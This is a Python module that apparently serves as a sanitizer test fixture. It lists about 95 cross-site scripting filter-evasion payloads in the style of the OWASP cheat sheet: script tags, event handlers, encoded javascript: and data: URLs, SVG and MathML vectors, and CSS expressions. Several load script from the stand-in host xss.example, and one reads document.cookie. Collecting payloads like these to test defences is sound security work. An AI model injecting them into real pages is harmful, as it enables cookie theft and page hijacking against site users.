"""
Hostile markup in the style of the OWASP XSS filter-evasion cheat sheet.

Each payload tries to get script running, load active content or restyle the
page: script elements, event handlers, javascript:/data:/vbscript: URLs in
many encodings, SVG and MathML, frames, objects, <base>, <meta> refresh, CSS
expressions and broken markup that parsers repair differently.
"""

# ruff: noqa: E501 - payloads are kept whole, one per line.

PAYLOADS = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script src=https://xss.example/x.js></script>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<script/xss src=//xss.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=# onmouseover=\"alert('xss')\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<p onclick=alert(1)>click</p>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<img """><script>alert("XSS")</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    # javascript:, vbscript: and data: URLs in many encodings
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # Frames, objects, embeds, base, meta
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=https://xss.example/></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<embed src="https://xss.example/x.swf">',
    '<base href="https://xss.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://xss.example/">',
    '<meta http-equiv="Set-Cookie" content="sessionid=stolen">',
    '<link rel="import" href="https://xss.example/x.html">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    # CSS
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="behavior: url(xss.htc)">x</div>',
    '<div style="-moz-binding:url(https://xss.example/x.xml#x)">x</div>',
    "<style>@import 'https://xss.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="xss:expr/**/ession(alert(1))">x</p>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # Broken and nested markup
    "<<img src=x onerror=alert(1)//<",
    "<img src=x onerror=alert(1)",
    "<a href=javascript:alert(1)>x",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://ok.example/" title="x" onmouseover="alert(1)">ok</a>',
    "<template><script>alert(1)</script></template>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<div id="x"><p>safe</p><script>alert(document.cookie)</script></div>',
    # Templates and text that must stay text
    "{{ 7*7 }} {% debug %} ${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]

assert len(PAYLOADS) >= 60
